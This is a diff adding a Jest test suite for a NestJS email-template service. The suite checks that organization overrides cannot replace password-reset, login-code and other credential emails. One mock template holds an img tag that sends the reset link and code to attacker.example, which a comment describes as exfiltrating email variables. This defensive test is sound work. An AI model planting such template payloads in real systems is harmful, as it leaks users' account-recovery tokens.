@@ -0,0 +1,156 @@
+import { Test, TestingModule } from '@nestjs/testing';
+import { getRepositoryToken } from '@nestjs/typeorm';
+import { ConfigService } from '@nestjs/config';
+import { ForbiddenException } from '@nestjs/common';
+import { EmailTemplatesService } from './email-templates.service';
+import { EmailTemplate } from './entities/email-template.entity';
+import { EmailTemplateKey } from './enums/email-template-key.enum';
+import { User } from '../users/entities/user.entity';
+import { OrganizationMembership } from '../organizations/entities/organization-membership.entity';
+
+const ORGANIZATION_ID = 'org-1';
+
+describe('EmailTemplatesService', () => {
+  let service: EmailTemplatesService;
+
+  // Переопределения организации для каждого ключа: забирают переменные письма на чужой сервер
+  const organizationOverride = (key: EmailTemplateKey) =>
+    ({
+      id: `override-${key}`,
+      organizationId: ORGANIZATION_ID,
+      key,
+      locale: 'en',
+      subject: 'Organization {{appName}}',
+      html: '<img src="https://attacker.example/?t={{ resetLink }}{{ code }}">',
+      text: null,
+    }) as EmailTemplate;
+
+  const mockTemplatesRepository = {
+    findOne: jest.fn(
+      ({
+        where,
+      }: {
+        where: { organizationId: unknown; key: EmailTemplateKey };
+      }) =>
+        Promise.resolve(
+          where.organizationId === ORGANIZATION_ID
+            ? organizationOverride(where.key)
+            : null,
+        ),
+    ),
+    find: jest.fn(),
+    create: jest.fn((template: Partial<EmailTemplate>) => template),
+    save: jest.fn((template: EmailTemplate) => Promise.resolve(template)),
+    delete: jest.fn(),
+  };
+
+  const mockUsersRepository = {
+    findOne: jest.fn().mockResolvedValue({
+      id: 'user-1',
+      email: 'user@example.com',
+      firstName: 'John',
+      lastName: null,
+      locale: 'en',
+    }),
+  };
+
+  // Получатель состоит в одной организации - её шаблоны действуют для всех его писем
+  const mockOrganizationMembershipRepository = {
+    find: jest.fn().mockResolvedValue([{ organizationId: ORGANIZATION_ID }]),
+  };
+
+  const config: Record<string, unknown> = {
+    'email.appName': 'Loginus',
+    'email.supportEmail': 'support@example.com',
+  };
+
+  beforeEach(async () => {
+    jest.clearAllMocks();
+
+    const module: TestingModule = await Test.createTestingModule({
+      providers: [
+        EmailTemplatesService,
+        {
+          provide: getRepositoryToken(EmailTemplate),
+          useValue: mockTemplatesRepository,
+        },
+        {
+          provide: getRepositoryToken(User),
+          useValue: mockUsersRepository,
+        },
+        {
+          provide: getRepositoryToken(OrganizationMembership),
+          useValue: mockOrganizationMembershipRepository,
+        },
+        {
+          provide: ConfigService,
+          useValue: { get: jest.fn((name: string) => config[name]) },
+        },
+      ],
+    }).compile();
+
+    service = module.get<EmailTemplatesService>(EmailTemplatesService);
+  });
+
+  describe('renderForRecipient', () => {
+    it('should use the template of the recipient organization', async () => {
+      const rendered = await service.renderForRecipient(
+        EmailTemplateKey.INVITATION,
+        'user@example.com',
+        { organizationName: 'Acme', inviterName: 'Jane' },
+      );
+
+      expect(rendered.subject).toBe('Organization Loginus');
+    });
+
+    it('should ignore organization overrides of credential emails', async () => {
+      const rendered = await service.renderForRecipient(
+        EmailTemplateKey.PASSWORD_RESET,
+        'user@example.com',
+        { resetLink: 'https://loginus.example/reset?token=secret' },
+      );
+
+      expect(rendered.html).not.toContain('attacker.example');
+      expect(rendered.html).toContain(
+        'https://loginus.example/reset?token=secret',
+      );
+      expect(
+        mockTemplatesRepository.findOne.mock.calls.map(
+          ([{ where }]) => where.organizationId,
+        ),
+      ).not.toContain(ORGANIZATION_ID);
+    });
+  });
+
+  describe('upsert', () => {
+    const dto = { subject: 'Reset', html: '<a href="{{resetLink}}">Reset</a>' };
+
+    it.each([
+      EmailTemplateKey.VERIFICATION_CODE,
+      EmailTemplateKey.LOGIN_CODE,
+      EmailTemplateKey.EMAIL_VERIFICATION,
+      EmailTemplateKey.PASSWORD_RESET,
+      EmailTemplateKey.ACCOUNT_LOCKED,
+      EmailTemplateKey.LOGIN_ALERT,
+    ])('should not let an organization override %s', async (key) => {
+      await expect(
+        service.upsert(ORGANIZATION_ID, key, 'en', dto, 'admin-1'),
+      ).rejects.toThrow(ForbiddenException);
+      expect(mockTemplatesRepository.save).not.toHaveBeenCalled();
+    });
+
+    it('should let the system administrator override credential emails', async () => {
+      await service.upsert(
+        null,
+        EmailTemplateKey.PASSWORD_RESET,
+        'en',
+        dto,
+        'admin-1',
+      );
+
+      expect(mockTemplatesRepository.save).toHaveBeenCalledWith(
+        expect.objectContaining({ organizationId: null, html: dto.html }),
+      );
+    });
+  });
+});